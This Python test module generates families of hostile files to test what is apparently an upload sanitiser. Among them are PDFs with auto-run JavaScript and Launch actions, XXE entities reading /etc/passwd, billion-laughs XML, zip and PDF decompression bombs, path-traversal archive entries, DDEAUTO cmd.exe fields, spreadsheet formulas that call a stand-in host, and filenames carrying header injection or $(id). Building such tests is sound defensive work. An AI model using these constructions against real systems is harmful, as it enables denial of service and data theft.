"""Hostile files in families, made from a table when they are needed: nothing of them lies in the repository (RELIABILITY T6, T17)."""

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from pikepdf import Array, AttachedFileSpec, Dictionary, Encryption, Name, Pdf, String

from tests.files import samples

SCRIPT = "<script>alert('GEVAAR')</script>"
CODE = "app.alert('GEVAAR')"
SAMPLE = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "-".join(["EICAR", "STANDARD", "ANTIVIRUS", "TEST", "FILE"]) + "!$H+H*").encode()
PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode. GEVAAR"
# None of this may stand in anything that is handed out.
MARKS = (
    b"GEVAAR",
    SAMPLE[-40:-10],
    b"<script",
    b"onload=",
    b"/JavaScript",
    b"/JS",
    b"/Launch",
    b"/OpenAction",
    b"/EmbeddedFile",
    b"/RichMedia",
    b"/XFA",
    b"vbaProject",
    b"MZ\x90",
    b"<!ENTITY",
    b"<!DOCTYPE",
    b"javascript:",
    b"DDEAUTO",
    b'TargetMode="External" Target="file',
)


@dataclass(frozen=True)
class Hostile:
    """A file as somebody with bad intentions would send it."""

    family: str
    name: str
    content: bytes


FAMILIES: dict[str, Callable[[], Iterator[tuple[str, bytes]]]] = {}


def family(make: Callable[[], Iterator[tuple[str, bytes]]]) -> Callable[[], Iterator[tuple[str, bytes]]]:
    FAMILIES[make.__name__] = make
    return make


def all_files() -> list[Hostile]:
    return [Hostile(name, *each) for name, make in FAMILIES.items() for each in make()]


@family
def scanner_sample() -> Iterator[tuple[str, bytes]]:
    """The sample by which scanners are tried, plain and packed."""
    for name in ("a.txt", "a.com", "a.pdf", "a.jpg", "a.docx", "a.eml", "a"):
        yield name, SAMPLE
    yield "wrapped.txt", b"Beste ouders,\r\n" + SAMPLE
    yield "a.docx", samples.docx(parts={"word/media/x.xml": SAMPLE})
    yield "b.docx", samples.docx(body=SAMPLE.decode().replace("&", ""))
    yield "mail.eml", samples.mail(SAMPLE.decode())
    yield "mail2.eml", samples.mail("Hoi", ("a.txt", SAMPLE))
    yield "zip.zip", samples.archive({"a.com": SAMPLE})


@family
def double_suffix() -> Iterator[tuple[str, bytes]]:
    for suffix in ("exe", "js", "html", "svg", "php", "bat", "scr", "hta", "lnk", "vbs", "ps1", "jar"):
        yield f"rapport.pdf.{suffix}", PROGRAM
        yield f"foto.jpg.{suffix}", SCRIPT.encode()


@family
def programs() -> Iterator[tuple[str, bytes]]:
    for name in ("a.exe", "a.pdf", "a.jpg", "a.txt", "a.docx", "a"):
        yield name, PROGRAM
        yield name, b"\x7fELF\x02\x01\x01" + b"GEVAAR" * 20
    yield "a.txt", b"#!/bin/sh\necho GEVAAR\n"
    yield "a.class", b"\xca\xfe\xba\xbe" + b"GEVAAR"


@family
def web_pages() -> Iterator[tuple[str, bytes]]:
    pages = [
        f"<html><body>{SCRIPT}</body></html>",
        f"<!DOCTYPE html>{SCRIPT}",
        f"\n\n  {SCRIPT}",
        "<svg onload=GEVAAR()/>",
        "<iframe src=javascript:GEVAAR()>",
        "\ufeff<html>GEVAAR</html>",
        "<?php system('GEVAAR') ?>",
    ]
    for page in pages:
        for name in ("a.html", "a.pdf", "a.txt", "a.png"):
            yield name, page.encode()


@family
def drawings_with_scripts() -> Iterator[tuple[str, bytes]]:
    drawings = [
        f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="GEVAAR()"/>',
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:GEVAAR()"/></svg>',
        '<!DOCTYPE svg [<!ENTITY x "GEVAAR">]><svg>&x;</svg>',
        '<svg><foreignObject><body onload="GEVAAR()"/></foreignObject></svg>',
    ]
    for drawing in drawings:
        for name in ("a.svg", "a.png", "a.txt"):
            yield name, drawing.encode()


def _pdf(change: Callable[[Pdf], None], **how) -> bytes:
    made = samples.pages()
    change(made)
    return samples.saved(made, **how)


def _action(kind: str) -> Dictionary:
    rows = {
        "JavaScript": Dictionary(S=Name.JavaScript, JS=String(CODE)),
        "Launch": Dictionary(S=Name.Launch, F=String("GEVAAR.exe")),
        "SubmitForm": Dictionary(S=Name.SubmitForm, F=String("https://GEVAAR.example")),
        "GoToR": Dictionary(S=Name.GoToR, F=String("GEVAAR")),
        "URI": Dictionary(S=Name.URI, URI=String("javascript:GEVAAR()")),
        "ImportData": Dictionary(S=Name.ImportData, F=String("GEVAAR")),
        "GoToE": Dictionary(S=Name.GoToE, T=Dictionary(N=String("GEVAAR"))),
        "Rendition": Dictionary(S=Name.Rendition, JS=String(CODE), OP=0),
    }
    return rows[kind]


ACTIONS = ("JavaScript", "Launch", "SubmitForm", "GoToR", "URI", "ImportData", "GoToE", "Rendition")


@family
def pdf_that_acts_when_opened() -> Iterator[tuple[str, bytes]]:
    for kind in ACTIONS:
        yield "a.pdf", _pdf(lambda made, kind=kind: setattr(made.Root, "OpenAction", made.make_indirect(_action(kind))))
        yield "a.pdf", _pdf(lambda made, kind=kind: setattr(made.Root, "AA", Dictionary(WC=_action(kind))))


@family
def pdf_that_acts_on_a_page() -> Iterator[tuple[str, bytes]]:
    for kind in ACTIONS:
        yield "a.pdf", _pdf(lambda made, kind=kind: setattr(made.pages[0].obj, "AA", Dictionary(O=_action(kind))))

        def link(made: Pdf, kind: str = kind) -> None:
            note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=_action(kind))
            made.pages[0].obj.Annots = Array([made.make_indirect(note)])

        yield "a.pdf", _pdf(link)


@family
def pdf_with_scripts_by_name() -> Iterator[tuple[str, bytes]]:
    for number in range(5):
        names = Dictionary(JavaScript=Dictionary(Names=Array([String(f"s{number}"), _action("JavaScript")])))
        yield "a.pdf", _pdf(lambda made, names=names: setattr(made.Root, "Names", names))
    yield "a.pdf", _pdf(lambda made: setattr(made.Root, "OpenAction", Dictionary(S=Name.JavaScript, JS=made.make_stream(CODE.encode()))))
    yield "raw.pdf", samples.pdf().replace(b"/Type /Catalog", b"/Type /Catalog /#4fpenAction << /S /#4aavaScript /#4aS (GEVAAR) >>")
    yield "raw.pdf", samples.pdf().replace(b"/Catalog", b"/Catalog /OpenAction <</S/JavaScript/JS(GEVAAR)>>")


@family
def pdf_with_something_inside() -> Iterator[tuple[str, bytes]]:
    for name, content in (
        ("a.exe", PROGRAM),
        ("a.js", CODE.encode()),
        ("a.docm", b"PK GEVAAR"),
        ("a.html", SCRIPT.encode()),
        ("b.pdf", b"%PDF GEVAAR"),
    ):
        yield "a.pdf", _pdf(lambda made, name=name, content=content: made.attachments.__setitem__(name, AttachedFileSpec(made, content)))

        def pinned(made: Pdf, content: bytes = content) -> None:
            inside = made.make_stream(content)
            inside.Type = Name.EmbeddedFile
            note = Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([0, 0, 9, 9]),
                FS=Dictionary(Type=Name.Filespec, F=String("GEVAAR"), EF=Dictionary(F=inside)),
            )
            made.pages[0].obj.Annots = Array([made.make_indirect(note)])

        yield "a.pdf", _pdf(pinned)


@family
def pdf_with_forms_and_films() -> Iterator[tuple[str, bytes]]:
    def form(made: Pdf) -> None:
        made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp>GEVAAR</xdp>"), Fields=Array([]), NeedAppearances=True)

    yield "a.pdf", _pdf(form)
    for kind in ("RichMedia", "Movie", "Sound", "Screen", "3D", "Widget", "Redact", "PrinterMark"):
        note = Dictionary(
            Type=Name.Annot,
            Subtype=Name("/" + kind),
            Rect=Array([0, 0, 9, 9]),
            Contents=String("GEVAAR"),
            A=_action("JavaScript"),
            T=String("x"),
            FT=Name.Tx,
        )

        def noted(made: Pdf, note: Dictionary = note) -> None:
            fixed = made.make_indirect(note)
            made.pages[0].obj.Annots = Array([fixed])
            made.Root.AcroForm = Dictionary(Fields=Array([fixed]))

        yield "a.pdf", _pdf(noted)


@family
def pdf_with_content_elsewhere() -> Iterator[tuple[str, bytes]]:
    def fetched(made: Pdf) -> None:
        drawn = made.make_stream(b"")
        drawn.Type, drawn.Subtype, drawn.BBox, drawn.F = Name.XObject, Name.Form, Array([0, 0, 1, 1]), String("https://GEVAAR.example")
        made.pages[0].obj.Resources.XObject = Dictionary(X=drawn)
        made.pages[0].obj.Contents = made.make_stream(b"/X Do")

    def postscript(made: Pdf) -> None:
        drawn = made.make_stream(b"GEVAAR")
        drawn.Type, drawn.Subtype = Name.XObject, Name.PS
        made.pages[0].obj.Resources.XObject = Dictionary(X=drawn)
        made.pages[0].obj.Contents = made.make_stream(b"/X Do")

    yield "a.pdf", _pdf(fetched)
    yield "a.pdf", _pdf(postscript)


@family
def pdf_that_unpacks_without_end() -> Iterator[tuple[str, bytes]]:
    """The object of its page lies in a stream that is small on the disk and immense in memory."""
    for size in (40, 100):
        page = b"4 0 << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /GEVAAR true >>" + b" " * (size * 1024 * 1024)
        packed = zlib.compress(page)
        inside = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (len(packed), packed)
        places, made = {}, b"%PDF-1.5\n"
        for number, thing in ((1, b"<< /Type /Catalog /Pages 2 0 R >>"), (2, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"), (3, inside)):
            places[number] = len(made)
            made += b"%d 0 obj\n%b\nendobj\n" % (number, thing)
        rows = b"".join(struct.pack(">BIH", *row) for row in ((0, 0, 0xFFFF), *((1, places[number], 0) for number in (1, 2, 3)), (2, 3, 0)))
        head = b"<< /Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Length %d >>" % len(rows)
        yield "bomb.pdf", made + b"5 0 obj\n%b\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, rows, len(made))


@family
def pdf_locked_or_damaged() -> Iterator[tuple[str, bytes]]:
    good = samples.pdf()
    yield "locked.pdf", samples.saved(samples.pages(), encryption=Encryption(owner="a", user="b"))
    for part in (0.02, 0.1, 0.3):
        yield "cut.pdf", good[: int(len(good) * part)]
    yield "empty.pdf", b"%PDF-1.7\n"
    yield "text.pdf", b"%PDF-1.7\n" + SCRIPT.encode()
    yield "noise.pdf", b"%PDF-1.7\n" + random.Random(1).randbytes(5000)
    yield "nested.pdf", b"%PDF-1.7\n1 0 obj\n" + b"[" * 50_000 + b"GEVAAR" + b"]" * 50_000 + b"\nendobj\ntrailer <</Root 1 0 R>>"
    yield (
        "loop.pdf",
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 1/X(GEVAAR)>>\nendobj\n",
    )


@family
def two_kinds_at_once() -> Iterator[tuple[str, bytes]]:
    """Polyglots: one kind in front, another behind."""
    goods = {"a.png": samples.image(), "a.jpg": samples.image("JPEG"), "a.pdf": samples.pdf(), "a.docx": samples.docx()}
    behind = (SCRIPT.encode(), PROGRAM, samples.archive({"x.js": CODE}), b"<?php GEVAAR ?>", SAMPLE)
    for name, good in goods.items():
        for tail in behind:
            yield name, good + tail
    for name, good in goods.items():
        yield name, SCRIPT.encode() + good
    yield "gif.png", b"GIF89a/*" + bytes(10) + b"*/=GEVAAR"
    yield "a.pdf", samples.image() + samples.pdf("GEVAAR")


@family
def images_with_words_inside() -> Iterator[tuple[str, bytes]]:
    png = samples.image()

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    for kind in (b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"iCCP", b"prVt"):
        yield "a.png", png[:33] + chunk(kind, b"Comment\0" + SCRIPT.encode()) + png[33:]
    yield "bomb.png", png[:33] + chunk(b"zTXt", b"a\0\0" + zlib.compress(b"GEVAAR" * 2_000_000)) + png[33:]
    jpeg = samples.image("JPEG")
    for marker in (0xE1, 0xE2, 0xED, 0xEF, 0xFE):
        words = SCRIPT.encode()
        yield "a.jpg", jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(words) + 2) + words + jpeg[2:]


@family
def images_too_large_or_damaged() -> Iterator[tuple[str, bytes]]:
    def claims(width: int, height: int) -> bytes:
        head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
        body = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
        data = zlib.compress(bytes(1000))
        return body + struct.pack(">I", len(data)) + b"IDAT" + data + struct.pack(">I", zlib.crc32(b"IDAT" + data))

    for size in ((14_000, 14_000), (100_000, 100), (8_000, 8_000), (2_000_000_000, 2_000_000_000), (0, 0), (20_001, 1)):
        yield "large.png", claims(*size)
    yield "flat.png", samples.image(size=(9_000, 6_000))
    bomb = samples.image(size=(6_500, 6_500), comment="GEVAAR")
    yield "many.docx", samples.docx("GEVAAR", {f"word/media/image{number}.png": bomb for number in range(5)})
    drawn = samples.image("JPEG", size=(5_000, 5_000), progressive=True)
    scan = drawn[drawn.rindex(b"\xff\xda"):-2]
    yield "scans.jpg", drawn[:-2] + scan * 3_000 + b"\xff\xd9GEVAAR"
    yield "scans.docx", samples.docx("GEVAAR", {"word/media/image1.jpg": drawn[:-2] + scan * 3_000 + b"\xff\xd9"})
    png, jpeg = samples.image(size=(200, 200)), samples.image("JPEG", size=(200, 200))
    for part in (0.05, 0.3, 0.8):
        yield "cut.png", png[: int(len(png) * part)]
        yield "cut.jpg", jpeg[: int(len(jpeg) * part)]
    yield "noise.jpg", b"\xff\xd8\xff\xe0" + random.Random(2).randbytes(4000)


@family
def images_of_other_kinds() -> Iterator[tuple[str, bytes]]:
    for name, kind in (
        ("a.gif", "GIF"),
        ("a.bmp", "BMP"),
        ("a.tiff", "TIFF"),
        ("a.webp", "WEBP"),
        ("a.ico", "ICO"),
        ("a.png", "GIF"),
        ("a.jpg", "TIFF"),
    ):
        yield name, samples.image(kind) + b"GEVAAR"
    yield "a.psd", b"8BPSGEVAAR"
    yield "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\nGEVAAR"
    yield "a.png", b"push graphic-context\nfill 'url(https://GEVAAR.example)'"


@family
def office_with_macros() -> Iterator[tuple[str, bytes]]:
    for name in ("a.docm", "a.docx", "a.dotm"):
        yield name, samples.docx(parts={"word/vbaProject.bin": b"GEVAAR"})
        yield name, samples.docx(parts={"word/vbaData.xml": "<x>GEVAAR</x>"})
        yield (
            name,
            samples.docx(
                parts={"[Content_Types].xml": samples.CONTENT_TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")}
            ),
        )
    yield "a.docx", samples.docx(parts={"word/activeX/activeX1.bin": b"GEVAAR"})
    yield (
        "a.xlsx",
        samples.archive(
            {"[Content_Types].xml": samples.CONTENT_TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<x>GEVAAR</x>"}
        ),
    )


@family
def office_with_something_inside() -> Iterator[tuple[str, bytes]]:
    for part in (
        "word/embeddings/oleObject1.bin",
        "word/embeddings/a.xlsx",
        "word/media/a.exe",
        "word/a.zip",
        "word/media/x.js",
        "word/media/a.docx",
    ):
        yield "a.docx", samples.docx(parts={part: b"GEVAAR"})
    yield "nested.docx", samples.docx(parts={"word/media/b.zip": samples.archive({"c.zip": samples.archive({"d": "GEVAAR"})})})
    yield "svg.docx", samples.docx(parts={"word/media/image1.svg": SCRIPT})
    yield "emf.docx", samples.docx(parts={"word/media/image1.emf": b"GEVAAR"})
    yield "png.docx", samples.docx(parts={"word/media/image1.png": b"GEVAAR"})


@family
def office_that_fetches() -> Iterator[tuple[str, bytes]]:
    for kind in ("attachedTemplate", "oleObject", "frame", "image", "subDocument", "externalLinkPath", "hyperlink"):
        for target in ("file://GEVAAR/x.dotm", "\\\\GEVAAR\\share", "javascript:GEVAAR()"):
            yield "a.docx", samples.docx(parts={"word/_rels/settings.xml.rels": samples.relations((kind, target, True))})
    yield "a.docx", samples.docx(parts={"word/_rels/document.xml.rels": samples.relations(("image", "https://GEVAAR.example/x.png", True))})
    yield "a.docx", samples.docx(parts={"word/_rels/document.xml.rels": samples.relations(("image", "file:///GEVAAR", False))})


@family
def office_fields_that_start_something() -> Iterator[tuple[str, bytes]]:
    fields = [
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k GEVAAR"',
        "DDE excel GEVAAR",
        'INCLUDEPICTURE "https://GEVAAR"',
        'INCLUDETEXT "GEVAAR"',
    ]
    for text in fields:
        escaped = text.replace('"', "&quot;")
        yield "a.docx", samples.docx(body=f"<w:p><w:r><w:instrText>{text}</w:instrText></w:r></w:p>")
        yield "a.docx", samples.docx(body=f'<w:p><w:fldSimple w:instr="{escaped}"/></w:p>')
        runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in text.replace('"', "'"))
        yield "a.docx", samples.docx(body=f"<w:p>{runs}</w:p>")
    yield "a.docx", samples.docx(body='<w:altChunk r:id="GEVAAR"/>')
    yield "a.docx", samples.docx(parts={"word/settings.xml": '<s><mailMerge><connectString val="DSN=GEVAAR"/></mailMerge></s>'})


@family
def sheets_that_fetch() -> Iterator[tuple[str, bytes]]:
    """Formulas and connections by which a spreadsheet sends or gets something when it is opened (ASVS V1.2.10)."""
    for formula in (
        'WEBSERVICE("https://GEVAAR.example/"&amp;A1)', 'FILTERXML(_xlfn.webservice ("https://GEVAAR.example"),"x")',
        '_xlfn.IMAGE("https://GEVAAR.example/x.png")', 'RTD("GEVAAR",,"x")', 'CALL("urlmon","GEVAAR")', "cmd|'/c GEVAAR'!A0",
    ):
        for place in ("<sheetData><row><c><f>{}</f></c></row></sheetData>", "<dataValidation><formula1>{}</formula1></dataValidation>"):
            yield "a.xlsx", samples.sheet(f"<worksheet>{place.format(formula)}</worksheet>")
        yield "a.xlsx", samples.sheet("<x/>", book=f'<definedNames><definedName name="x">{formula}</definedName></definedNames>')
    linked = '<connections><connection id="1" refreshOnLoad="1"><webPr url="https://GEVAAR.example"/></connection></connections>'
    yield "a.xlsx", samples.sheet("<x/>", parts={"xl/connections.xml": linked})
    hidden = '<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4APA-ddeLink ddeService="GEVAAR"/+AD4APA-/x+AD4-'
    yield "a.xlsx", samples.sheet("<x/>", parts={"xl/externalLinks/externalLink1.xml": hidden})
    hidden = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x SYSTEM "https://GEVAAR.example/x.dtd"+AD4APA-x/+AD4-'
    yield "a.xlsx", samples.sheet(hidden)


@family
def office_with_hostile_xml() -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "GEVAAR"}">' for n in range(10))
    documents = [
        f"<!DOCTYPE x [{laughs}]><x>&a9;</x>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e; GEVAAR</x>',
        '<!DOCTYPE x SYSTEM "https://GEVAAR.example/x.dtd"><x/>',
        "<x>GEVAAR",
        "GEVAAR",
        "<x>" * 5000 + "GEVAAR" + "</x>" * 5000,
    ]
    for text in documents:
        yield "a.docx", samples.docx(parts={"word/document.xml": text})
    yield "utf16.docx", samples.docx(parts={"word/document.xml": documents[1].encode("utf-16")})
    yield "rels.docx", samples.docx(parts={"_rels/.rels": documents[1]})


def _zip(*entries: tuple[str, bytes], **fields) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in samples.docx_parts().items():
            made.writestr(name, content)
        for name, content in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            for field, value in fields.items():
                setattr(info, field, value)
            made.writestr(info, content)
    return target.getvalue()


@family
def archives_with_hostile_entries() -> Iterator[tuple[str, bytes]]:
    for name in ("../../GEVAAR.xml", "/etc/GEVAAR", "word/../../GEVAAR.xml", "C:\\GEVAAR.xml", "word\\..\\GEVAAR", "word/GEVAAR\x01.xml"):
        yield "a.docx", _zip((name, b"<x>GEVAAR</x>"))
    yield "link.docx", _zip(("word/link.xml", b"/etc/passwd GEVAAR"), external_attr=(stat.S_IFLNK | 0o777) << 16, create_system=3)
    yield "twice.docx", _zip(("word/Document.xml", b"<x>GEVAAR</x>"))
    good = samples.docx()
    yield (
        "locked.docx",
        good.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00").replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
        ),
    )
    yield "cut.docx", good[: len(good) // 2]
    yield "none.docx", samples.archive({"GEVAAR.xml": "<x/>"})
    yield "two.docx", samples.archive(samples.docx_parts() | {"xl/workbook.xml": "<x>GEVAAR</x>"})


@family
def archives_that_unpack_without_end() -> Iterator[tuple[str, bytes]]:
    big = b"GEVAAR" + bytes(60 * 1024 * 1024)
    yield "bomb.docx", samples.docx(parts={"word/media/x.xml": big})
    yield "bomb.docx", samples.docx(parts={"word/document.xml": b"<x>" + b"a" * (20 * 1024 * 1024) + b"GEVAAR</x>"})
    many = {f"word/x{number}.xml": b"<x>" + b"a" * 900_000 + b"GEVAAR</x>" for number in range(180)}
    yield "many.docx", samples.archive(samples.docx_parts() | many)
    forest = b"<x>GEVAAR" + b"".join(b"<%c/>" % (97 + each % 26) for each in random.Random(3).randbytes(4_500_000)) + b"</x>"
    yield "forest.xlsx", samples.sheet("<x/>", parts={"xl/worksheets/sheet2.xml": forest})
    yield "count.docx", samples.archive(samples.docx_parts() | {f"word/x{number}.xml": "GEVAAR" for number in range(3100)})
    lying = samples.docx(parts={"word/styles.xml": b"<x>" + b"a" * (3 * 1024 * 1024) + b"GEVAAR</x>"})
    yield "lying.docx", lying.replace(struct.pack("<I", 3 * 1024 * 1024 + 13), struct.pack("<I", 10))


@family
def old_and_other_archives() -> Iterator[tuple[str, bytes]]:
    for name in ("a.doc", "a.xls", "a.ppt", "a.msg", "a.docx", "a.pdf"):
        yield name, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + b"GEVAAR"
    yield "locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + b"GEVAAR"
    for name, begin in (
        ("a.rar", b"Rar!\x1a\x07"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c"),
        ("a.gz", b"\x1f\x8b\x08"),
        ("a.cab", b"MSCF"),
        ("a.iso", bytes(32769) + b"CD001"),
    ):
        yield name, begin + b"GEVAAR"
        yield "a.pdf", begin + b"GEVAAR"
    yield "a.rtf", b"{\\rtf1{\\object\\objdata GEVAAR}}"
    yield "a.txt", b"{\\rtf1 GEVAAR}"
    yield "a.one", b"\xe4\x52\x5c\x7bGEVAAR"


@family
def scripts_as_text() -> Iterator[tuple[str, bytes]]:
    for suffix in ("js", "vbs", "bat", "cmd", "ps1", "sh", "py", "hta", "reg", "ini", "url", "csv", "xml", "json", "css", "ics", "vcf"):
        yield f"a.{suffix}", b"GEVAAR = 1"
    yield "a.txt", b"text \x00 GEVAAR"
    yield "a.txt", b"text \x1b]0;GEVAAR\x07"
    yield "a.txt", "regel \u202e GEVAAR".encode()
    yield "a.txt", "GEVAAR <script".encode("utf-16")
    yield "a.txt", b"x GEVAAR " * 300_000
    yield "slow.txt", b"<" + b" " * 300_000 + b"/" + b" " * 300_000 + b"script>GEVAAR"


@family
def hostile_names() -> Iterator[tuple[str, bytes]]:
    """The content is good; the name is not. What is shown must be plain, and the answer's headers whole."""
    good = samples.pdf()
    for name in (
        "../../../etc/passwd.pdf",
        "..\\..\\win.ini.pdf",
        "a\u202efdp.pdf",
        "a\u200b\u2066b.pdf",
        "x" * 5000 + ".pdf",
        "a\r\nSet-Cookie: x=1.pdf",
        'a"; filename="b.html.pdf',
        "<script>alert(1)</script>.pdf",
        "aux.pdf",
        "a;b.pdf",
        "%2e%2e%2fa.pdf",
        "\ud7ff\ue000.pdf",
        "=1+1.pdf",
        "~$a.pdf",
        ".htaccess.pdf",
        "a .pdf",
        "a..pdf",
        "é" * 400 + ".pdf",
        "$(id).pdf",
        "`id`.pdf",
    ):
        yield name, good
    yield "a\u202efdp.exe", good
    yield "a.pdf.", good
    yield "a.pdf::$DATA", good


@family
def emails() -> Iterator[tuple[str, bytes]]:
    for name, content in (
        ("a.exe", PROGRAM),
        ("a.html", SCRIPT.encode()),
        ("a.docm", samples.docx(parts={"word/vbaProject.bin": b"GEVAAR"})),
        ("a.svg", b"<svg onload=GEVAAR()>"),
    ):
        yield "a.eml", samples.mail("Hoi", (name, content))
    yield "inner.eml", samples.mail("Hoi", ("b.eml", samples.mail("GEVAAR")))
    yield "page.eml", samples.mail("Hoi " + SCRIPT.replace("GEVAAR", "x"), page=f"<html>{SCRIPT}</html>")
    only_page = samples.mail().replace(b"text/plain", b"text/html").replace(b"Beste school", SCRIPT.encode() + b"Beste school")
    yield "only_page.eml", only_page
    yield "many.eml", samples.mail("Hoi", *((f"{number}.txt", b"GEVAAR") for number in range(300)))
    yield (
        "deep.eml",
        b"From: a@b.example\nDate: x\nContent-Type: multipart/mixed; boundary=a\n\n"
        + b"--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 500,
    )
    yield "charset.eml", b"From: a@b.example\nDate: x\nContent-Type: text/plain; charset=GEVAAR\n\nHoi\n"
    yield "head.eml", b"From: a@b.example\nDate: x\nSubject: a\n" + b"X: y\n" * 50_000 + b"\nHoi <script>\n"
    yield "a.msg", samples.mail("GEVAAR")
    crowd = b", ".join(b"a%d <a%d@GEVAAR.example>" % (number, number) for number in range(20_000))
    yield "crowd.eml", b"From: a@b.example\nDate: x\nTo: " + crowd + b"\n\nHoi\n"
    kind, words = b"Content-Type: application/octet-stream", b"; ".join(b"a%d*0=GEVAAR" % number for number in range(20_000))
    yield "words.eml", samples.mail("Hoi", ("b.txt", b"x")).replace(kind, b"Content-Type: a/b; " + words)
    yield "slow.eml", samples.mail("Hoi <" + "\n" * 300_000 + "script>GEVAAR".replace("GEVAAR", "x"))


@family
def empty_or_too_large() -> Iterator[tuple[str, bytes]]:
    for name in ("a.pdf", "a.png", "a.docx", "a.txt", "a.eml", "a"):
        yield name, b""
    for name in ("a.pdf", "a.png", "a.jpg", "a.txt"):
        yield name, samples.pdf("GEVAAR") + bytes(20 * 1024 * 1024)
